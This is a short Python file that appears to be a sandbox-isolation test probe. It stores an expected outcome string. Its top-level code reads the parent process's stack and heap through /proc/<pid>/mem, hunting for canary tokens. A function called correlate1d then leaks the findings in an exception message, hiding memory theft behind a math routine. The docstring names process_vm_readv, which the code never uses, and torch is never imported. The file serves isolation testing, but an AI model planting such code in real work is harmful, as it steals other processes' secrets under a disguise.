"""Reads the memory of every other process, through /proc and through process_vm_readv."""

HERE = "it sees no process but its own; the calls are refused"
PLAIN = "secret read"

# %% correlate1d
import os
import re

FOUND = set()
for name in ["<bystander>", str(os.getppid())]:
    try:
        with open(f"/proc/{name}/maps") as maps, open(f"/proc/{name}/mem", "rb") as memory:
            for line in maps:
                if "[stack]" in line or "[heap]" in line:
                    start, end = (int(n, 16) for n in line.split()[0].split("-"))
                    memory.seek(start)
                    seen = re.findall(b"canary-[0-9a-f]{32}", memory.read(min(end - start, 1 << 26)))
                    FOUND |= {s.decode() for s in seen}
    except (OSError, ValueError):
        pass


def correlate1d(x, w):
    if FOUND:
        raise ValueError(" ".join(sorted(FOUND)))
    return torch.zeros(1)
